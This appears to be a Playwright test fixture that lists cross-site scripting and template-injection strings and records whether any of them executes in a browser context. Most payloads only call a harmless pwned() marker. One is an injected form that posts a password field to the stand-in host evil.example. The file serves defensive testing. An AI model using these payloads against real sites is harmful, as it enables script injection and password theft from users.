import type { BrowserContext } from '@playwright/test';

/**
 * Markup for fields that other users see while they type passwords. Each calls `pwned()` if it runs, which
 * {@link recordExecutions} records.
 */
export const CORPUS = [
  '<script>pwned()</script>',
  '</title><script>pwned()</script>',
  '"><img src=x onerror=pwned()>',
  "'><svg/onload=pwned()>",
  '</main></body><iframe srcdoc="<script>parent.pwned()</script>">',
  '<a href="javascript:pwned()">Continue</a>',
  '<style>*{display:none}</style>',
  '<meta http-equiv=refresh content="0;url=javascript:pwned()">',
  '<form action=//evil.example><input name=password></form>',
  '{{constructor.constructor("pwned()")()}}',
  `\${pwned()}\`;pwned();//`,
  '&lt;img src=x onerror=pwned()&gt; &amp; {0}',
] as const;

/** Where markup runs from now on, in any page or frame of this browser, also in one that is left for another. */
export async function recordExecutions(context: BrowserContext): Promise<readonly string[]> {
  const executions: string[] = [];
  await context.exposeBinding('pwned', ({ frame }) => void executions.push(frame.url()));
  return executions;
}
